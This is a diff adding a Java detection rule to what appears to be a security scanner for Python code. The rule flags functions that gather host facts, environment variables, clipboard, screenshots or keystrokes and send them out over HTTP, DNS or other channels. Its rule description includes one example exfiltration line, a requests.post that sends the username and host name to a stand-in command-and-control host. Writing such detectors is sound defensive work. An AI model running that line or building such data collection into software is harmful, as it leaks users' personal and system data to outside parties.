@@ -1,0 +1,92 @@
+package dev.kingsnake.rules.network;
+
+import dev.kingsnake.Confidence;
+import dev.kingsnake.Severity;
+import dev.kingsnake.spi.FindingSink;
+import dev.kingsnake.spi.Location;
+import dev.kingsnake.spi.PythonFile;
+import dev.kingsnake.spi.PythonFileRule;
+import dev.kingsnake.spi.RuleContext;
+import dev.kingsnake.spi.RuleInfo;
+import dev.kingsnake.spi.Tags;
+import dev.kingsnake.spi.python.Expr;
+
+import java.util.EnumSet;
+import java.util.HashSet;
+import java.util.Set;
+
+/**
+ * Source and sink in one function: host facts, the environment or captured user data collected, and a
+ * network call that carries data out (a POST/upload, a GET whose URL is built at run time, a DNS lookup
+ * of a built name).
+ */
+public final class CollectedDataSendRule implements PythonFileRule {
+
+    private static final RuleInfo INFO = new RuleInfo("KS-NET-SEND-HOST-DATA",
+            "Sends collected host/user data out: a function gathers host facts, the environment or captured input "
+                    + "and sends data over HTTP, sockets, mail, FTP or DNS",
+            Severity.HIGH, Confidence.HIGH, Set.of(Tags.EXFILTRATION, Tags.NETWORK),
+            "requests.post('https://c2.example.invalid', json={'user': getpass.getuser(), 'host': platform.node()})",
+            "Telemetry and crash reporters send a host name with their reports; they usually build the report "
+                    + "elsewhere than where they send it. Plain GETs to a constant URL are never reported.");
+
+    private static final Set<Capability> SOURCES = EnumSet.of(Capability.FINGERPRINT, Capability.ENV_ALL,
+            Capability.CLIPBOARD_READ, Capability.SCREENSHOT, Capability.KEYLOG);
+
+    @Override
+    public RuleInfo info() {
+        return INFO;
+    }
+
+    @Override
+    public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
+        CodeFacts facts = CodeFacts.of(file);
+        if (!facts.fileCaps().contains(Capability.NETWORK)) {
+            return;
+        }
+        Set<Integer> scopesReported = new HashSet<>();
+        for (CodeFacts.CallFact c : facts.calls()) {
+            if (!c.is(Capability.NETWORK) || scopesReported.contains(c.scope())) {
+                continue;
+            }
+            Set<Capability> scope = facts.scope(c.scope());
+            if (!IndicatorRule.hasAny(scope, SOURCES)) {
+                continue;
+            }
+            String how;
+            if (c.is(Capability.SEND)) {
+                how = "sends";
+            } else if (c.is(Capability.DNS) && c.call().arg(0).isPresent()
+                    && DnsExfilRule.dataUnderFixedDomain(facts, c.call().arg(0).get())) {
+                how = "encodes into a DNS lookup";
+            } else if (c.is(Capability.FETCH) && builtAtRunTime(facts, c.call())) {
+                how = "puts into a request URL";
+            } else {
+                continue;
+            }
+            scopesReported.add(c.scope());
+            sink.report(Location.of(file, c.call()), "this function collects host/user data and " + how + " it",
+                    file.line(c.call().line()), Severity.HIGH,
+                    c.is(Capability.SEND) ? Confidence.HIGH : Confidence.MEDIUM);
+        }
+    }
+
+    /**
+     * True when the first argument is assembled right there from constant parts and other values (a bare
+     * variable is not enough: resolving or fetching a name held in a variable is what every client does).
+     */
+    static boolean builtAtRunTime(CodeFacts facts, Expr.Call call) {
+        Expr a = call.arg(0).orElse(call.keyword("url").orElse(call.keyword("host").orElse(null)));
+        if (a == null) {
+            return false;
+        }
+        if (a instanceof Expr.FString || a instanceof Expr.BinOp) {
+            return facts.file().constant(a).isEmpty();
+        }
+        if (a instanceof Expr.Call inner && inner.callee() instanceof Expr.Attribute at
+                && ("format".equals(at.attr()) || "join".equals(at.attr()))) {
+            return true;
+        }
+        return false;
+    }
+}
